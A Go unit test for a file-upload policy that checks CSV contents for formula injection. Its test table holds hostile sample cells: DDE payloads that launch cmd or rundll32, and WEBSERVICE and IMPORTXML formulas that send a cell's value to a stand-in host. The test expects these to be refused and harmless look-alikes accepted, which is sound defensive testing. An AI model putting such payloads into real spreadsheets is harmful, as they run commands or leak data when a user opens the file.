package upload

import "testing"

func TestACellThatActsIsRefusedHoweverCellsAreParted(t *testing.T) {
	t.Parallel()
	p := policyOf(t, Config{Allow: []string{"csv"}})
	for text, want := range map[string]bool{
		"a\n=rundll32|'URL.dll,OpenURL calc.exe'!A\n": false, "a\n=cmd|'/c a;b\tc'!A0\n": false, "a\n\"=cmd|'/c a,b'!A0\"\n": false, "a\n=cmd|' /C calc'!A0": false,
		"a\n=WEBSERVICE(\"http://x/?\"&A1)\n": false, "a\n=1+importxml (\"http://x\",\"//a\")\n": false, "a\n=IMPORTDATA(A1)\n": false,
		"a\n-1|2,3!\n": true, "a|b\n-1|'x',y!z\n": true, "a\nWEBSERVICE(x)\n": true, "a\n=MYIMPORTDATA\n": true, "name,note\n-x|'y,\nz!\n": true,
	} {
		if got := sniffText(t, p, text, "a.csv", "text/csv"); got != want {
			t.Errorf("%q: accepted is %v", text, got)
		}
	}
}
